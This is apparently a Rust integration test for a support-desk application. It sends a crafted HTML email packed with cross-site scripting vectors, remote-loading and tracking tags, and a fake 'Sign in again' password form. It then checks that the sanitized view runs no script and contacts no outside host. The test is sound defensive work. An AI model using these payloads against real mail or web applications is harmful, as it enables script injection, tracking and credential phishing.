//! A mail that wants to run, to load, to lead away. It is opened every way the desk offers.

use crate::support::{Desk, LI};
use fantoccini::Locator;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;
use tokio::sync::watch;

/// A machine of the sender's: it writes down what it is asked for.
pub struct Lair {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
    count: watch::Receiver<usize>,
}

impl Lair {
    pub async fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let (sender, count) = watch::channel(0);
        let notes = Arc::clone(&asked);
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let (notes, sender) = (Arc::clone(&notes), sender.clone());
                tokio::spawn(async move {
                    let mut head = vec![0; 8192];
                    let length = stream.read(&mut head).await.unwrap_or(0);
                    // A connection opened ahead of need is a sign as well.
                    notes.lock().unwrap().push(String::from_utf8_lossy(&head[..length]).into_owned());
                    sender.send_modify(|n| *n += 1);
                    let gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;";
                    let head = format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        gif.len()
                    );
                    let _ = stream.write_all(&[head.as_bytes(), gif].concat()).await;
                });
            }
        });
        Self { port, asked, count }
    }

    pub fn port(&self) -> u16 {
        self.port
    }

    pub fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    /// Waits until it was asked so often.
    pub async fn wait_for(&self, times: usize) {
        let mut count = self.count.clone();
        let asked = count.wait_for(|n| *n >= times);
        tokio::time::timeout(std::time::Duration::from_secs(20), asked).await.expect("it was asked").unwrap();
    }
}

fn mail(lair: &str) -> String {
    let run = "window.top.ran=1;try{window.opener.ran=1}catch(e){};alert(1)";
    let html = format!(
        "<html><head><base href=\"{lair}/base/\"><meta http-equiv=\"refresh\" content=\"0;url={lair}/refresh\">\
         <link rel=\"stylesheet\" href=\"{lair}/link.css\"><link rel=\"preload\" as=\"image\" href=\"{lair}/preload\">\
         <link rel=\"dns-prefetch\" href=\"{lair}\"><link rel=\"preconnect\" href=\"{lair}\">\
         <style>@import '{lair}/import.css'; body {{ background: url({lair}/css) }}</style>\
         <script>{run}</script><script src=\"{lair}/script.js\"></script></head>\
         <body onload=\"{run}\" background=\"{lair}/background\">\
         <p id=\"greeting\" style=\"background-image:url({lair}/style);position:fixed;inset:0\">Dear seller, read this.</p>\
         <img src=x onerror=\"{run}\"><img src=\"{lair}/pixel.gif\" width=1 height=1>\
         <img srcset=\"{lair}/srcset 1x\"><picture><source srcset=\"{lair}/source\"></picture>\
         <a id=\"bad\" href=\"javascript:{run}\">an offer</a> <a href=\"data:text/html,<script>{run}</script>\">a file</a>\
         <svg onload=\"{run}\"><script>{run}</script><image href=\"{lair}/svg\"/><use href=\"{lair}/use#a\"/></svg>\
         <math><mtext><img src=x onerror=\"{run}\"></mtext></math>\
         <form action=\"{lair}/form\" id=f><input name=password autofocus onfocus=\"{run}\"><button formaction=\"{lair}/button\">Sign in again</button></form>\
         <iframe src=\"{lair}/iframe\" srcdoc=\"<script>{run}</script>\"></iframe><object data=\"{lair}/object\"></object>\
         <embed src=\"{lair}/embed\"><video src=\"{lair}/video\" poster=\"{lair}/poster\" autoplay></video>\
         <audio src=\"{lair}/audio\" autoplay></audio><details open ontoggle=\"{run}\">x</details>\
         <table background=\"{lair}/table\"><tr><td background=\"{lair}/cell\">x</td></tr></table>\
         <template><script>{run}</script></template><noscript><p title=\"</noscript><img src=x onerror='{run}'>\"></noscript>\
         <p id=\"end\">My order FK-204418 is late.</p></body></html>"
    );
    format!(
        "From: \"<script>{run}</script>\" <mallory@customer.example>\r\nTo: support@falkenau.example\r\n\
         Subject: Late <img src=x onerror=\"{run}\"> order\r\nMessage-ID: <evil@customer.example>\r\n\
         Date: Fri, 20 Nov 2026 09:30:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_mail_runs_nothing_and_calls_nobody() {
    let lair = Lair::open().await;
    let home = format!("http://127.0.0.1:{}", lair.port);
    let Some(desk) = Desk::open(&["electronics"], false, &[("electronics", mail(&home))], 10).await else { return };
    let number = desk.ticket("electronics", "Late");
    desk.sign_in("electronics", LI).await;
    let nothing_ran = async |when: &str| {
        // An open dialog fails the command; a script that ran left its mark.
        assert_eq!(desk.value("return window.ran ?? 0").await, 0, "{when}");
        assert_eq!(lair.asked(), Vec::<String>::new(), "{when}");
    };

    // In the list, and on the review page with the original unfolded in its frame.
    desk.goto("/t/electronics/tickets?view=all").await;
    nothing_ran("in the list").await;
    desk.goto(&format!("/t/electronics/tickets/{number}")).await;
    assert!(
        desk.text(".ticket-head h1").await.contains("<img src=x onerror="),
        "the subject is shown as it was written"
    );
    desk.click("details.original > summary").await;
    desk.client().enter_frame(0).await.unwrap();
    desk.until("document.getElementById('end') || document.body.innerText.includes('FK-204418')").await;
    assert_eq!(desk.client().find_all(Locator::Css("form, input, button, script, svg, iframe, object, embed, video, audio, link, base, [onload], [onerror], [background]")).await.unwrap().len(), 0);
    // The marks of the allow-list stay: the text can be read and what is left of a link leads nowhere.
    assert_eq!(desk.client().find_all(Locator::Css("a[href^=javascript], a[href^=data]")).await.unwrap().len(), 0);
    desk.client().enter_parent_frame().await.unwrap();
    nothing_ran("in the frame").await;

    // In a page of its own.
    let own = desk.value("return document.querySelector('details.original iframe').src").await;
    desk.browser.goto(own.as_str().unwrap()).await;
    desk.until("document.body.innerText.includes('FK-204418')").await;
    assert_eq!(
        desk.value("return document.querySelector('p').getBoundingClientRect().height < innerHeight / 2").await,
        true,
        "it covers nothing"
    );
    nothing_ran("in a page of its own").await;
    assert_eq!(desk.complaints().await, Vec::<String>::new(), "nothing was left for the policy to stop");

    // Only an agent who asks for remote pictures gets them, and the sender learns nothing else.
    desk.browser.goto(&format!("{}?images=1", own.as_str().unwrap())).await;
    let mut count = lair.count.clone();
    tokio::time::timeout(std::time::Duration::from_secs(20), count.wait_for(|n| *n > 0))
        .await
        .expect("the picture")
        .unwrap();
    desk.until("document.readyState === 'complete'").await;
    assert_eq!(desk.value("return window.ran ?? 0").await, 0);
    for head in lair.asked() {
        assert!(head.starts_with("GET /pixel.gif HTTP/1.1\r\n"), "{head}");
        let lower = head.to_lowercase();
        assert!(!lower.contains("\r\nreferer:") && !lower.contains("\r\ncookie:"), "{head}");
    }
    desk.browser.close().await;
}
